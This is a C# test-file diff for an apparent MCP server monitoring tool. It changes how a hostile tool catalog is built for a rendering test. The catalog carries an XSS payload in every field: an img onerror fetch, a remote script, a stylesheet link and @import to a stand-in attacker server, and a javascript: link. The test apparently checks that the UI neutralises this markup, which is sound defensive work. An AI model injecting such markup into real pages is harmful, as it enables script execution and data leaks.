@@ -1,3 +1,4 @@
+using System.Text.Json;
 using McpProbe.Model;
 using McpProbe.Monitoring;
 using McpProbe.Testing;
@@ -46,7 +47,8 @@ public sealed class EndpointPersonTests
         await using var server = await StubServer.StartAsync(McpScript.Handshake("find_order", "cancel_order"));
         await using var head = await WebHead.StartAsync(Open, new SampleStore());
         await using var person = await PersonAsync(head, script, width);
-        await person.OpenAsync("/endpoints/new");
+        await person.OpenAsync("/");
+        await person.FollowAsync("a[href='/endpoints/new']");
 
         // A mistake first: it stands at its field, and what was typed is kept.
         await person.TypeAsync("url", "htp://nowhere");
@@ -95,9 +97,20 @@ public sealed class EndpointPersonTests
             return Task.CompletedTask;
         });
         var markup = $"<img src=\"{evil.Url}/i\" onerror=\"fetch('{evil.Url}/x')\"><script src=\"{evil.Url}/s\"></script><link rel=stylesheet href=\"{evil.Url}/c\"><style>@import '{evil.Url}/d'</style>](javascript:alert(1))";
-        var json = System.Text.Json.JsonSerializer.Serialize(markup);
-        var hostile = Orders.Catalog(
-            $$$"""{"name":{{{json}}},"title":{{{json}}},"description":{{{json}}},"icons":[{"src":"{{{evil.Url}}}/icon"}],"inputSchema":{"type":"object","properties":{{{{json}}}:{"type":{{{json}}},"description":{{{json}}},"default":{{{json}}},"enum":[{{{json}}}]}}},"outputSchema":{"type":"object","title":{{{json}}}},"annotations":{"title":{{{json}}},{{{json}}}:true}}""");
+        var hostile = Orders.Catalog(JsonSerializer.Serialize(new Dictionary<string, object>
+        {
+            ["name"] = markup,
+            ["title"] = markup,
+            ["description"] = markup,
+            ["icons"] = new[] { new { src = $"{evil.Url}/icon" } },
+            ["inputSchema"] = new
+            {
+                type = "object",
+                properties = new Dictionary<string, object> { [markup] = new { type = markup, description = markup, @default = markup, @enum = new[] { markup } } },
+            },
+            ["outputSchema"] = new { type = "object", title = markup },
+            ["annotations"] = new Dictionary<string, object> { ["title"] = markup, [markup] = true },
+        }));
         var store = Orders.Store();
         store.AddCatalog(hostile.Hashes.Hash, hostile.Canonical);
         store.Set(Orders.Id, store.StateOf(Orders.Id) with { Drifted = new DriftCandidate(Orders.Protocol, hostile.Hashes.Hash, Orders.DriftedAt) });
